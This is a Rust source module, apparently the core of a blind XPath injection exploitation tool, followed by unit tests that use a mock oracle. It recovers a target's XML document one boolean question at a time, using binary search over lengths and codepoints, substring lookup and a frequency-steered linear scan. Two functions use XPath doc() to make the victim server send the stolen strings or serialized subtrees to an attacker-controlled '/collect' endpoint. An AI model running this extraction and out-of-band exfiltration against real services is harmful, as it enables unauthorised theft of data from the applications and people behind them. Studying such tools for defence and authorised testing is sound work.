//! Blind extraction algorithms.
//!
//! Everything reduces to boolean questions: what is the length of
//! `name(path)`? is character `i` of `string(path)` equal to `'c'`? The
//! walk recovers the document node by node; character recovery picks the
//! cheapest strategy the evaluator's feature set allows.

use crate::context::{AttackContext, Counters};
use crate::display::XmlNode;
use crate::error::Result;
use crate::oob::OobServer;
use crate::oracle::Oracle;
use crate::xpath::{func, Expression};
use futures::future::{join_all, BoxFuture, FutureExt};
use std::collections::HashMap;
use std::sync::{Arc, Mutex};
use std::time::Duration;
use tracing::{debug, warn};

/// Search space for the substring-before strategy: printable characters,
/// most common first, deliberately excluding quotes and whitespace so the
/// space embeds as a plain string literal.
pub const ASCII_SEARCH_SPACE: &str =
    "etaoinsrhldcumfpgwybvkxjqzETAOINSRHLDCUMFPGWYBVKXJQZ0123456789.-,_!:;@#$%&*()+=[]{}<>/\\|^~";

/// Candidate set for the linear scan, roughly frequency ordered. Includes
/// the characters the other strategies cannot represent (space, quotes).
const CHARACTER_SPACE: &str =
    "etaoinsrhldcumfpgwybvkxjqzETAOINSRHLDCUMFPGWYBVKXJQZ0123456789 .,-_@:/!?()'\"{}=+#";

/// Placeholder for a character no strategy could recover
const MISSING_CHARACTER: char = '?';

/// Strings recovered in fast mode are truncated to this length
pub const FAST_MODE_LENGTH: u64 = 15;

/// How long the OOB channel waits for the victim's callback
const OOB_WAIT: Duration = Duration::from_secs(5);

/// The OOB bulk-transfer channel, when the server is up
pub struct OobChannel<'a> {
    pub server: &'a OobServer,
    pub base_url: String,
}

/// Drives an extraction against one oracle. Counters are shared with the
/// attack context so recovered characters and strings steer later guesses.
pub struct Extractor<'a> {
    oracle: &'a dyn Oracle,
    features: &'a HashMap<String, bool>,
    fast_mode: bool,
    time_based: bool,
    counters: Arc<Mutex<Counters>>,
    oob: Option<OobChannel<'a>>,
}

impl<'a> Extractor<'a> {
    pub fn new(oracle: &'a dyn Oracle, features: &'a HashMap<String, bool>) -> Self {
        Self {
            oracle,
            features,
            fast_mode: false,
            time_based: false,
            counters: Arc::new(Mutex::new(Counters::default())),
            oob: None,
        }
    }

    /// Wire the extractor to a started attack context: mode flags,
    /// counters, and the OOB channel if the context carries one.
    pub fn for_context(oracle: &'a dyn Oracle, context: &'a AttackContext) -> Self {
        let oob = match (context.oob_server(), context.oob_host.as_ref()) {
            (Some(server), Some(host)) => Some(OobChannel {
                server: server.as_ref(),
                base_url: host.clone(),
            }),
            _ => None,
        };
        Self {
            oracle,
            features: &context.features,
            fast_mode: context.fast_mode,
            time_based: context.time_based,
            counters: context.counters.clone(),
            oob,
        }
    }

    pub fn with_fast_mode(mut self, fast: bool) -> Self {
        self.fast_mode = fast;
        self
    }

    pub fn with_time_based(mut self, time_based: bool) -> Self {
        self.time_based = time_based;
        self
    }

    pub fn with_oob(mut self, oob: Option<OobChannel<'a>>) -> Self {
        self.oob = oob;
        self
    }

    fn feature(&self, name: &str) -> bool {
        self.features.get(name).copied().unwrap_or(false)
    }

    async fn ask(&self, expression: Expression) -> Result<bool> {
        self.oracle.ask(&expression).await
    }

    /// Find the smallest `n` for which `target <= n`, by doubling until the
    /// probe answers true and then binary-searching the last interval.
    /// `cap` bounds the answer (fast mode truncation).
    async fn binary_search_count<F>(&self, le_probe: F, cap: Option<u64>) -> Result<u64>
    where
        F: Fn(u64) -> Expression,
    {
        let mut n = 1u64;
        let mut lo = 0u64;
        loop {
            let n_probe = cap.map_or(n, |c| n.min(c));
            if self.ask(le_probe(n_probe)).await? {
                n = n_probe;
                break;
            }
            lo = n_probe + 1;
            if let Some(c) = cap {
                if n_probe >= c {
                    return Ok(c);
                }
            }
            n *= 2;
        }

        let mut hi = n;
        while lo < hi {
            let mid = lo + (hi - lo) / 2;
            if self.ask(le_probe(mid)).await? {
                hi = mid;
            } else {
                lo = mid + 1;
            }
        }
        Ok(lo)
    }

    /// Length of the string value of `target`, truncated in fast mode
    pub async fn get_string_length(&self, target: &Expression) -> Result<u64> {
        let cap = if self.fast_mode {
            Some(FAST_MODE_LENGTH)
        } else {
            None
        };
        self.binary_search_count(
            |n| func::string_length(target.clone()).le(n as i64),
            cap,
        )
        .await
    }

    /// `count(target)` recovered through the oracle
    pub async fn count_nodes(&self, target: &Expression) -> Result<u64> {
        self.binary_search_count(|n| func::count(target.clone()).le(n as i64), None)
            .await
    }

    /// Binary search a codepoint in `[lo, hi]` given the `[1]`-indexed
    /// codepoints expression
    async fn binary_codepoint(&self, cp_expr: &Expression, mut lo: u32, mut hi: u32) -> Result<u32> {
        while lo < hi {
            let mid = lo + (hi - lo) / 2;
            if self.ask(cp_expr.clone().le(mid as i64)).await? {
                hi = mid;
            } else {
                lo = mid + 1;
            }
        }
        Ok(lo)
    }

    /// Codepoint search: `O(log 95)` per character over printable ASCII,
    /// widening to the BMP when the character falls outside it. A result
    /// landing on a range boundary is confirmed before being trusted,
    /// because out-of-range values converge onto the boundary.
    async fn codepoint_search(&self, char_expr: &Expression) -> Result<Option<char>> {
        let cp_expr = func::string_to_codepoints(char_expr.clone()).index(1_u64);

        let found = self.binary_codepoint(&cp_expr, 32, 126).await?;
        if found != 32 && found != 126 {
            return Ok(char::from_u32(found));
        }
        if self.ask(cp_expr.clone().eq(found as i64)).await? {
            return Ok(char::from_u32(found));
        }

        let found = self.binary_codepoint(&cp_expr, 0, 0xFFFF).await?;
        if self.ask(cp_expr.clone().eq(found as i64)).await? {
            Ok(char::from_u32(found))
        } else {
            Ok(None)
        }
    }

    /// Substring search: binary-search the length of
    /// `substring-before(ASCII_SEARCH_SPACE, c)` and use it as an index
    /// into the space. Index 0 is ambiguous (an absent character also
    /// yields an empty prefix), so it is confirmed by equality.
    async fn substring_search(&self, char_expr: &Expression) -> Result<Option<char>> {
        let prefix_len = func::string_length(func::substring_before(
            ASCII_SEARCH_SPACE,
            char_expr.clone(),
        ));
        let space_len = ASCII_SEARCH_SPACE.len() as u64;

        let mut lo = 0u64;
        let mut hi = space_len - 1;
        while lo < hi {
            let mid = lo + (hi - lo) / 2;
            if self.ask(prefix_len.clone().le(mid as i64)).await? {
                hi = mid;
            } else {
                lo = mid + 1;
            }
        }

        let candidate = ASCII_SEARCH_SPACE.as_bytes()[lo as usize] as char;
        if lo == 0 {
            let confirmed = self
                .ask(char_expr.clone().eq(candidate.to_string().as_str()))
                .await?;
            if !confirmed {
                return Ok(None);
            }
        }
        Ok(Some(candidate))
    }

    /// Linear scan, candidate order steered by the frequency counter.
    /// Mandated in time-based mode where every true answer costs a full
    /// delay and binary strategies lose to plain enumeration.
    async fn linear_search(&self, char_expr: &Expression) -> Result<Option<char>> {
        let mut candidates: Vec<char> = self
            .counters
            .lock()
            .expect("lock poisoned")
            .common_characters();
        for c in CHARACTER_SPACE.chars() {
            if !candidates.contains(&c) {
                candidates.push(c);
            }
        }

        for c in candidates {
            let probe = char_expr.clone().eq(c.to_string().as_str());
            if self.ask(probe).await? {
                return Ok(Some(c));
            }
        }
        Ok(None)
    }

    /// Recover character `index` (1-based) of the string value of `target`
    pub async fn get_char(&self, target: &Expression, index: u64) -> Result<Option<char>> {
        let char_expr = func::substring(target.clone(), index, 1);

        if !self.time_based {
            if self.feature("codepoint-search") {
                return self.codepoint_search(&char_expr).await;
            }
            if self.feature("substring-search") && self.feature("normalize-space") {
                if let Some(c) = self.substring_search(&char_expr).await? {
                    return Ok(Some(c));
                }
            }
        }
        self.linear_search(&char_expr).await
    }

    /// Transfer the string value of `target` over the OOB channel: one
    /// request instead of `O(N log 95)`. None when the callback never
    /// arrives (the caller falls back to blind recovery).
    async fn get_string_via_oob(&self, target: &Expression) -> Result<Option<String>> {
        let Some(oob) = &self.oob else {
            return Ok(None);
        };
        let token = oob.server.new_token();
        let prefix = format!("{}/collect?token={}&data=", oob.base_url, token);
        let probe = func::doc(func::concat(vec![
            Expression::string(&prefix),
            func::encode_for_uri(target.clone()),
        ]));

        // The oracle verdict is irrelevant; only the side-channel matters.
        if let Err(error) = self.oracle.ask(&probe).await {
            warn!(%error, "OOB transfer probe failed");
        }

        match oob.server.wait_for_data(&token, OOB_WAIT).await {
            Some(items) => Ok(items.into_iter().next()),
            None => {
                debug!("OOB callback never arrived, falling back to blind recovery");
                Ok(None)
            }
        }
    }

    /// Transfer a whole serialized subtree over the OOB channel
    async fn get_subtree_via_oob(&self, path: &Expression) -> Result<Option<String>> {
        let Some(oob) = &self.oob else {
            return Ok(None);
        };
        let token = oob.server.new_token();
        let prefix = format!("{}/collect?token={}&data=", oob.base_url, token);
        let probe = func::doc(func::concat(vec![
            Expression::string(&prefix),
            func::encode_for_uri(func::serialize(path.clone())),
        ]));

        if let Err(error) = self.oracle.ask(&probe).await {
            warn!(%error, "OOB subtree probe failed");
        }

        match oob.server.wait_for_data(&token, OOB_WAIT).await {
            Some(items) => Ok(items.into_iter().next()),
            None => Ok(None),
        }
    }

    /// Recover the full string value of `target`
    pub async fn get_string(&self, target: &Expression) -> Result<String> {
        let target = if self.feature("normalize-space") {
            func::normalize_space(target.clone())
        } else {
            target.clone()
        };

        let length = self.get_string_length(&target).await?;
        if length == 0 {
            return Ok(String::new());
        }

        if self.feature("oob-http") {
            if let Some(value) = self.get_string_via_oob(&target).await? {
                self.record(&value);
                return Ok(value);
            }
        }

        // Shortcut: node names and values repeat; one equality probe per
        // previously seen string of the right length is cheap.
        let seen: Vec<String> = {
            let counters = self.counters.lock().expect("lock poisoned");
            counters
                .common_strings()
                .into_iter()
                .filter(|s| s.chars().count() as u64 == length)
                .collect()
        };
        for candidate in seen {
            if self.ask(target.clone().eq(candidate.as_str())).await? {
                self.record(&candidate);
                return Ok(candidate);
            }
        }

        let recovered: Vec<Option<char>> = if self.time_based {
            let mut out = Vec::with_capacity(length as usize);
            for index in 1..=length {
                out.push(self.get_char(&target, index).await?);
            }
            out
        } else {
            let futures: Vec<_> = (1..=length)
                .map(|index| self.get_char(&target, index))
                .collect();
            join_all(futures).await.into_iter().collect::<Result<_>>()?
        };

        let value: String = recovered
            .into_iter()
            .map(|c| c.unwrap_or(MISSING_CHARACTER))
            .collect();
        self.record(&value);
        Ok(value)
    }

    fn record(&self, value: &str) {
        let mut counters = self.counters.lock().expect("lock poisoned");
        counters.record_string(value);
        for c in value.chars() {
            counters.record_char(c);
        }
    }

    /// Recover the document subtree rooted at `path` (e.g. `/*[1]`)
    pub async fn get_nodes(&self, path: &str) -> Result<XmlNode> {
        self.walk(path.to_string()).await
    }

    fn walk(&self, path: String) -> BoxFuture<'_, Result<XmlNode>> {
        async move {
            let node = Expression::raw(path.clone());

            // A 3.1 evaluator with a working callback can hand us the whole
            // subtree serialized in one request.
            if self.feature("oob-http") && self.feature("xpath-3.1") {
                if let Some(raw) = self.get_subtree_via_oob(&node).await? {
                    return Ok(XmlNode::from_serialized(raw));
                }
            }

            let name = self.get_string(&func::name(node.clone())).await?;
            debug!(path = %path, name = %name, "node");

            let attr_count = self
                .count_nodes(&Expression::raw(format!("{}/@*", path)))
                .await?;
            let mut attributes = Vec::with_capacity(attr_count as usize);
            for index in 1..=attr_count {
                let attr = Expression::raw(format!("{}/@*[{}]", path, index));
                let attr_name = self.get_string(&func::name(attr.clone())).await?;
                let attr_value = self.get_string(&attr).await?;
                attributes.push((attr_name, attr_value));
            }

            let child_count = self
                .count_nodes(&Expression::raw(format!("{}/*", path)))
                .await?;

            if child_count == 0 {
                let text = self.get_string(&node).await?;
                Ok(XmlNode {
                    name,
                    attributes,
                    text: Some(text),
                    children: Vec::new(),
                    serialized: None,
                })
            } else {
                let mut children = Vec::with_capacity(child_count as usize);
                for index in 1..=child_count {
                    children.push(self.walk(format!("{}/*[{}]", path, index)).await?);
                }
                Ok(XmlNode {
                    name,
                    attributes,
                    text: None,
                    children,
                    serialized: None,
                })
            }
        }
        .boxed()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::oracle::Oracle;
    use async_trait::async_trait;
    use std::sync::atomic::{AtomicUsize, Ordering};

    /// Truthful oracle over a single string: answers the exact question
    /// shapes the extractor emits about `string(s)`.
    struct StringOracle {
        value: &'static str,
        calls: AtomicUsize,
    }

    impl StringOracle {
        fn new(value: &'static str) -> Self {
            Self {
                value,
                calls: AtomicUsize::new(0),
            }
        }

        fn calls(&self) -> usize {
            self.calls.load(Ordering::SeqCst)
        }

        fn answer(&self, question: &str) -> bool {
            let value = self.value;

            // string-length(...) <= N
            if let Some(rest) = question.strip_prefix("string-length(") {
                if let Some((_, bound)) = rest.rsplit_once(" <= ") {
                    let n: u64 = bound.parse().expect("numeric bound");
                    return (value.chars().count() as u64) <= n;
                }
            }
            // string-to-codepoints(substring(s, i, 1))[1] <= N or = N
            if let Some(rest) = question.strip_prefix("string-to-codepoints(substring(s, ") {
                let (index, rest) = rest.split_once(", 1))[1]").expect("codepoint question");
                let i: usize = index.parse().expect("index");
                let cp = value.chars().nth(i - 1).map(|c| c as u32).unwrap_or(0);
                if let Some(bound) = rest.strip_prefix(" <= ") {
                    return cp <= bound.parse::<u32>().expect("bound");
                }
                if let Some(bound) = rest.strip_prefix(" = ") {
                    return cp == bound.parse::<u32>().expect("bound");
                }
            }
            // substring(s, i, 1) = 'c'
            if let Some(rest) = question.strip_prefix("substring(s, ") {
                let (index, rest) = rest.split_once(", 1) = ").expect("substring question");
                let i: usize = index.parse().expect("index");
                let expected = rest.trim_matches(|c| c == '\'' || c == '"');
                return value
                    .chars()
                    .nth(i - 1)
                    .map(|c| c.to_string() == expected)
                    .unwrap_or(false);
            }
            // s = 'candidate'
            if let Some(rest) = question.strip_prefix("s = ") {
                return rest.trim_matches('\'') == value;
            }
            panic!("unhandled question: {}", question);
        }
    }

    #[async_trait]
    impl Oracle for StringOracle {
        async fn ask(&self, expression: &Expression) -> Result<bool> {
            self.calls.fetch_add(1, Ordering::SeqCst);
            Ok(self.answer(&expression.to_string()))
        }
    }

    fn features_with(names: &[&str]) -> HashMap<String, bool> {
        names.iter().map(|n| (n.to_string(), true)).collect()
    }

    #[tokio::test]
    async fn test_length_discovery_call_count() {
        // "Genesis" has length 7: exponential probes 1, 2, 4, 8 then a
        // binary search between 5 and 8 lands in two further probes.
        let oracle = StringOracle::new("Genesis");
        let features = HashMap::new();
        let extractor = Extractor::new(&oracle, &features);

        let length = extractor
            .get_string_length(&Expression::raw("s"))
            .await
            .expect("length");
        assert_eq!(length, 7);
        assert_eq!(oracle.calls(), 6);
    }

    #[tokio::test]
    async fn test_length_zero() {
        let oracle = StringOracle::new("");
        let features = HashMap::new();
        let extractor = Extractor::new(&oracle, &features);

        let length = extractor
            .get_string_length(&Expression::raw("s"))
            .await
            .expect("length");
        assert_eq!(length, 0);
    }

    #[tokio::test]
    async fn test_codepoint_search_call_count() {
        // 'A' (65) over [32, 126] converges in exactly 7 probes and needs
        // no boundary confirmation.
        let oracle = StringOracle::new("A");
        let features = features_with(&["codepoint-search"]);
        let extractor = Extractor::new(&oracle, &features);

        let c = extractor
            .get_char(&Expression::raw("s"), 1)
            .await
            .expect("char");
        assert_eq!(c, Some('A'));
        assert_eq!(oracle.calls(), 7);
    }

    #[tokio::test]
    async fn test_codepoint_search_wide_range_fallback() {
        // A character above 126 converges onto the boundary, fails the
        // confirmation, and is found again over the BMP range.
        let oracle = StringOracle::new("é");
        let features = features_with(&["codepoint-search"]);
        let extractor = Extractor::new(&oracle, &features);

        let c = extractor
            .get_char(&Expression::raw("s"), 1)
            .await
            .expect("char");
        assert_eq!(c, Some('é'));
    }

    #[tokio::test]
    async fn test_string_left_inverse_codepoint() {
        let oracle = StringOracle::new("Genesis");
        let features = features_with(&["codepoint-search"]);
        let extractor = Extractor::new(&oracle, &features);

        let value = extractor
            .get_string(&Expression::raw("s"))
            .await
            .expect("string");
        assert_eq!(value, "Genesis");
    }

    #[tokio::test]
    async fn test_string_left_inverse_linear() {
        let oracle = StringOracle::new("Exodus");
        let features = HashMap::new();
        let extractor = Extractor::new(&oracle, &features);

        let value = extractor
            .get_string(&Expression::raw("s"))
            .await
            .expect("string");
        assert_eq!(value, "Exodus");
    }

    #[tokio::test]
    async fn test_fast_mode_truncates_to_fifteen() {
        let oracle = StringOracle::new("A very long string indeed");
        let features = features_with(&["codepoint-search"]);
        let extractor = Extractor::new(&oracle, &features).with_fast_mode(true);

        let value = extractor
            .get_string(&Expression::raw("s"))
            .await
            .expect("string");
        assert_eq!(value, "A very long str");
        assert_eq!(value.chars().count() as u64, FAST_MODE_LENGTH);
    }

    #[tokio::test]
    async fn test_common_string_shortcut() {
        let oracle = StringOracle::new("Genesis");
        let features = features_with(&["codepoint-search"]);
        let extractor = Extractor::new(&oracle, &features);
        extractor.record("Genesis");

        let calls_before = oracle.calls();
        let value = extractor
            .get_string(&Expression::raw("s"))
            .await
            .expect("string");
        assert_eq!(value, "Genesis");
        // Length discovery (6) plus a single equality probe.
        assert_eq!(oracle.calls() - calls_before, 7);
    }

    #[test]
    fn test_search_space_is_quote_free() {
        assert!(!ASCII_SEARCH_SPACE.contains('\''));
        assert!(!ASCII_SEARCH_SPACE.contains('"'));
        assert!(!ASCII_SEARCH_SPACE.contains(' '));
        // No duplicate entries: every index must map to one character.
        let mut seen = std::collections::HashSet::new();
        assert!(ASCII_SEARCH_SPACE.chars().all(|c| seen.insert(c)));
    }

    #[test]
    fn test_character_space_covers_alphanumerics() {
        for c in ('a'..='z').chain('A'..='Z').chain('0'..='9') {
            assert!(CHARACTER_SPACE.contains(c), "missing {}", c);
        }
    }
}
